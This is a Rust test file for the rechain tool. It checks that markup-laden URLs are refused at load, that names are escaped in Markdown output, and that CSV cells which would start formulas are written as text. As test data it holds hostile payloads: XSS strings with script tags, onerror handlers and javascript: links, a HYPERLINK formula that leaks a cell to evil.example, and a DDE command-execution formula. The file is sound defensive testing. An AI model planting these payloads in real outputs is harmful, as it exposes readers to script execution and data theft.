//! Model text that would act where an output is pasted or opened: a URL that ends its link
//! early and adds markup, names that are HTML, Markdown links or spreadsheet formulas. URLs
//! are refused at load; names reach every Markdown output escaped and every CSV cell as text.

use std::path::{Path, PathBuf};

use rechain::model::{Origin, load};
use rechain::tui::app::App;
use rechain::tui::command::Command;
use rechain::tui::msg::{Effect, Msg};
use rechain::tui::theme::Theme;

use crate::common::cli::{csv_rows, rechain_in, text};
use crate::common::pty::fixture;
use crate::common::send;

pub const HOSTILE_URL: &str = "https://ok.example/a> [click me](javascript:alert(1)) <img src=x onerror=alert(document.domain)>";

/// The app's fixture with the first `key: value` of each change given a new value, written
/// as a quoted string.
fn model_with(dir: &Path, changes: &[(&str, &str)]) -> PathBuf {
    let mut yaml = std::fs::read_to_string(fixture()).unwrap();
    for (from, to) in changes {
        assert!(yaml.contains(from), "`{from}` is not in the fixture");
        let key = from.split(": ").next().unwrap();
        let quoted = serde_json::to_string(to).unwrap();
        yaml = yaml.replacen(from, &format!("{key}: {quoted}"), 1);
    }
    let file = dir.join("chain.yaml");
    std::fs::write(&file, yaml).unwrap();
    file
}

fn run(dir: &Path, file: &Path, args: &[&str]) -> (Option<i32>, String, String) {
    let mut all: Vec<&str> = args.to_vec();
    all.extend(["-f", file.to_str().unwrap()]);
    let out = rechain_in(dir, &all);
    (out.status.code(), text(&out.stdout), text(&out.stderr))
}

fn app_on(file: &Path) -> App {
    let yaml = std::fs::read_to_string(file).unwrap();
    let m = load::load_text(&yaml, Origin::File(file.into())).expect("valid model");
    App::new(
        m,
        Theme {
            color: false,
            contrast: false,
        },
        120,
        40,
    )
}

fn copied(app: &mut App) -> String {
    match app.update(Command::Copy) {
        Effect::Copy(text) => text,
        other => panic!("expected a copy, got {other:?}"),
    }
}

/// What `w NAME` + Enter would write.
fn written(app: &mut App, name: &str) -> String {
    send(app, [Command::WriteView]);
    send(app, name.chars().map(Msg::Input));
    match app.update(Command::Open) {
        Effect::Write { text, .. } => text,
        other => panic!("expected a write, got {other:?}"),
    }
}

/// Fails when Markdown holds anything a renderer would act on beyond the text: a tag, an
/// entity other than the three escapes, an unescaped link, or an autolink that is not a
/// plain web address.
pub fn assert_inert_markdown(what: &str, md: &str) {
    let mut rest = md;
    let mut outside = String::new();
    while let Some(at) = rest.find('<') {
        outside.push_str(&rest[..at]);
        let link = &rest[at + 1..];
        let end = link
            .find('>')
            .unwrap_or_else(|| panic!("{what}: `<` opens no autolink in:\n{md}"));
        let url = &link[..end];
        assert!(
            rechain::model::url::is_web_url(url),
            "{what}: autolink to `{url}` in:\n{md}"
        );
        rest = &link[end + 1..];
    }
    outside.push_str(rest);
    assert!(!outside.contains('>'), "{what}: raw `>` in:\n{md}");
    for (at, _) in outside.match_indices('&') {
        let entity = &outside[at..];
        assert!(
            ["&amp;", "&lt;", "&gt;"]
                .iter()
                .any(|e| entity.starts_with(e)),
            "{what}: raw `&` at {:?} in:\n{md}",
            &entity[..entity.len().min(20)]
        );
    }
    for (at, _) in outside.match_indices("](") {
        assert!(
            outside[..at].ends_with('\\'),
            "{what}: a live link at {:?} in:\n{md}",
            &outside[at.saturating_sub(20)..]
        );
    }
    assert!(!md.contains("javascript:alert(1))]"), "{what}");
}

/// Fails when a cell of the CSV would start a formula in a spreadsheet.
pub fn assert_no_formula_cells(what: &str, csv: &str) {
    // The header row is checked too.
    for row in csv_rows(&format!("\n{csv}")) {
        for cell in row {
            let first = cell.trim_start_matches(' ').chars().next();
            assert!(
                !matches!(first, Some('=' | '+' | '-' | '@' | '\t' | '\r')),
                "{what}: a formula cell {cell:?} in:\n{csv}"
            );
        }
    }
}

#[test]
fn hostile_url_is_refused_at_load_with_its_position() {
    let dir = tempfile::tempdir().unwrap();
    let file = model_with(
        dir.path(),
        &[("url: https://example.org/iea-2024", HOSTILE_URL)],
    );
    let yaml = std::fs::read_to_string(&file).unwrap();
    let (line, column) = yaml
        .lines()
        .enumerate()
        .find_map(|(i, l)| l.find("\"https://ok.example").map(|c| (i + 1, c + 1)))
        .unwrap();
    let (code, stdout, _) = run(dir.path(), &file, &["check"]);
    assert_eq!(code, Some(1), "{stdout}");
    let place = format!(
        "{}:{line}:{column}: error: the URL `https://ok.example/a>",
        file.display()
    );
    assert!(stdout.contains(&place), "`{place}` not in:\n{stdout}");
    assert!(stdout.contains("contains `<`, `>`"), "{stdout}");

    // Nothing shows it: every verb refuses the model.
    for args in [
        &["show", "iea-2024", "--format", "md"][..],
        &["list", "sources", "--format", "md"],
    ] {
        let (code, stdout, stderr) = run(dir.path(), &file, args);
        assert_ne!(code, Some(0), "{args:?}");
        assert!(!stdout.contains("<img"), "{args:?}: {stdout}");
        assert!(
            stderr.contains(&format!(":{line}:{column}:")),
            "{args:?}: {stderr}"
        );
    }

    for url in [
        "javascript:alert(1)",
        "https://",
        "https://a.example/\"x",
        "https://a.example/`x`",
    ] {
        let file = model_with(dir.path(), &[("url: https://example.org/iea-2024", url)]);
        let (code, stdout, _) = run(dir.path(), &file, &["check"]);
        assert_eq!(code, Some(1), "{url}: {stdout}");
        assert!(stdout.contains("error: the URL"), "{url}: {stdout}");
    }
}

#[test]
fn shipped_models_have_only_web_urls() {
    for file in [
        concat!(env!("CARGO_MANIFEST_DIR"), "/chain.yaml"),
        concat!(env!("CARGO_MANIFEST_DIR"), "/tests/fixtures/ui.yaml"),
    ] {
        let out = rechain_in(Path::new(env!("CARGO_MANIFEST_DIR")), &["check", file]);
        assert_eq!(out.status.code(), Some(0), "{file}: {}", text(&out.stdout));
    }
}

/// Names that are HTML, a Markdown link and a bare ampersand, and a source title of markup.
fn markup_model(dir: &Path) -> PathBuf {
    model_with(
        dir,
        &[
            ("name: Lynas Rare Earths", "<img src=x onerror=alert(1)>"),
            ("name: Mt Weld", "[x](javascript:alert(1))"),
            ("name: MP Materials", "a & b"),
            (
                "title: Annual Report 2025",
                "<script>alert(1)</script> & *x*",
            ),
            ("metric: mine production", "# <b>share</b>"),
        ],
    )
}

#[test]
fn hostile_names_are_escaped_in_every_markdown_output() {
    let dir = tempfile::tempdir().unwrap();
    let file = markup_model(dir.path());
    let original = fixture();
    let verbs: &[&[&str]] = &[
        &["show", "lynas", "--format", "md"],
        &["show", "lynas-mt-weld", "--format", "md"],
        &["show", "lynas-ar-2025", "--format", "md"],
        &["show", "mp", "--format", "md"],
        &["list", "firms", "--format", "md"],
        &["list", "sources", "--format", "md"],
        &["search", "onerror", "--format", "md"],
        &["search", "javascript", "--format", "md"],
        &["plants", "mining", "--format", "md"],
        &["capacity", "mining", "--format", "md"],
        &["history", "mining", "--format", "md"],
        &["shares", "--format", "md"],
        &["routes", "--format", "md"],
        &["diff", &original, "--format", "md"],
    ];
    for args in verbs {
        let (_, md, stderr) = if args[0] == "diff" {
            let out = rechain_in(
                dir.path(),
                &[args[0], args[1], file.to_str().unwrap(), args[2], args[3]],
            );
            (out.status.code(), text(&out.stdout), text(&out.stderr))
        } else {
            run(dir.path(), &file, args)
        };
        assert!(!md.is_empty(), "{args:?}: {stderr}");
        assert_inert_markdown(&format!("{args:?}"), &md);
    }
    let (_, md, _) = run(dir.path(), &file, &["show", "lynas", "--format", "md"]);
    assert!(
        md.starts_with("## &lt;img src=x onerror=alert(1)&gt;\n"),
        "{md}"
    );
    assert!(
        md.contains("&lt;script&gt;alert(1)&lt;/script&gt; &amp; \\*x\\*"),
        "{md}"
    );
    let (_, md, _) = run(dir.path(), &file, &["list", "firms", "--format", "md"]);
    assert!(md.contains("| a &amp; b |"), "{md}");
    let (_, md, _) = run(
        dir.path(),
        &file,
        &["show", "lynas-mt-weld", "--format", "md"],
    );
    assert!(md.starts_with("## \\[x\\](javascript:alert(1))\n"), "{md}");
}

#[test]
fn hostile_names_are_escaped_in_what_y_copies_and_w_writes() {
    let dir = tempfile::tempdir().unwrap();
    let mut a = app_on(&markup_model(dir.path()));
    // The card of the firm, its sources, the plants overlay and the share block.
    send(&mut a, [Command::Down, Command::NextPane]);
    let card = copied(&mut a);
    assert!(
        card.contains("&lt;img src=x onerror=alert(1)&gt;"),
        "{card}"
    );
    assert_inert_markdown("y on the card", &card);
    assert_inert_markdown("w on the card", &written(&mut a, "card.md"));
    let mut a = app_on(&markup_model(dir.path()));
    send(
        &mut a,
        [Command::Down, Command::NextPane, Command::ShowSource],
    );
    let sources = copied(&mut a);
    assert!(sources.contains("&lt;script&gt;"), "{sources}");
    assert_inert_markdown("y on the sources", &sources);

    let mut a = app_on(&markup_model(dir.path()));
    send(&mut a, [Command::ShowPlants]);
    let plants = copied(&mut a);
    assert!(plants.contains("\\[x\\](javascript:alert(1))"), "{plants}");
    assert_inert_markdown("y on the plants", &plants);
    let mut a = app_on(&markup_model(dir.path()));
    send(&mut a, [Command::ShowHistory]);
    assert_inert_markdown("y on the history", &copied(&mut a));
    let mut a = app_on(&markup_model(dir.path()));
    send(&mut a, [Command::NextPane, Command::NextPane]);
    assert_inert_markdown("y on the shares", &copied(&mut a));
}

const HYPERLINK: &str = "=HYPERLINK(\"http://evil.example/?leak=\"&A1,\"Click\")";
const CALC: &str = "@SUM(1+1)*cmd|' /C calc'!A0";

/// A firm and facilities named as formulas, and a metric and a unit that start one.
fn formula_model(dir: &Path) -> PathBuf {
    model_with(
        dir,
        &[
            ("name: Lynas Rare Earths", HYPERLINK),
            ("name: Mt Weld", CALC),
            ("name: MP Materials", "+cmd"),
            ("name: Mountain Pass", "-2+3"),
            ("metric: mine production", "=1+1"),
            ("unit: t REO/yr", "\tt REO/yr"),
        ],
    )
}

#[test]
fn csv_cells_that_would_start_a_formula_are_written_as_text() {
    let dir = tempfile::tempdir().unwrap();
    let file = formula_model(dir.path());
    let verbs: &[&[&str]] = &[
        &["plants", "mining", "--format", "csv"],
        &["plants", "mining", "--status", "all", "--format", "csv"],
        &["capacity", "mining", "--format", "csv"],
        &["history", "mining", "--format", "csv"],
        &["list", "firms", "--format", "csv"],
        &["search", "HYPERLINK", "--format", "csv"],
        &["show", "lynas", "--format", "csv"],
        &["shares", "--format", "csv"],
        &["routes", "--format", "csv"],
    ];
    for args in verbs {
        let (_, csv, stderr) = run(dir.path(), &file, args);
        assert!(!csv.is_empty(), "{args:?}: {stderr}");
        assert_no_formula_cells(&format!("{args:?}"), &csv);
    }
    let (_, csv, _) = run(dir.path(), &file, &["plants", "mining", "--format", "csv"]);
    let rows = csv_rows(&csv);
    let weld = rows.iter().find(|r| r[2] == "lynas-mt-weld").unwrap();
    assert_eq!(weld[0], format!("'{HYPERLINK}"));
    assert_eq!(weld[1], format!("'{CALC}"));
    let pass = rows.iter().find(|r| r[2] == "mp-mountain-pass").unwrap();
    assert_eq!((pass[0].as_str(), pass[1].as_str()), ("'+cmd", "'-2+3"));
    let (_, csv, _) = run(dir.path(), &file, &["history", "mining", "--format", "csv"]);
    assert!(csv.contains(",'=1+1,"), "{csv}");

    // What `w` writes for the plants overlay and the share block.
    let mut a = app_on(&file);
    send(&mut a, [Command::ShowPlants]);
    let csv = written(&mut a, "plants.csv");
    assert!(csv.contains(&format!("'{CALC}")), "{csv}");
    assert_no_formula_cells("w plants.csv", &csv);
    let mut a = app_on(&file);
    send(&mut a, [Command::NextPane, Command::NextPane]);
    let csv = written(&mut a, "shares.csv");
    assert!(csv.contains("'=1+1"), "{csv}");
    assert_no_formula_cells("w shares.csv", &csv);
}
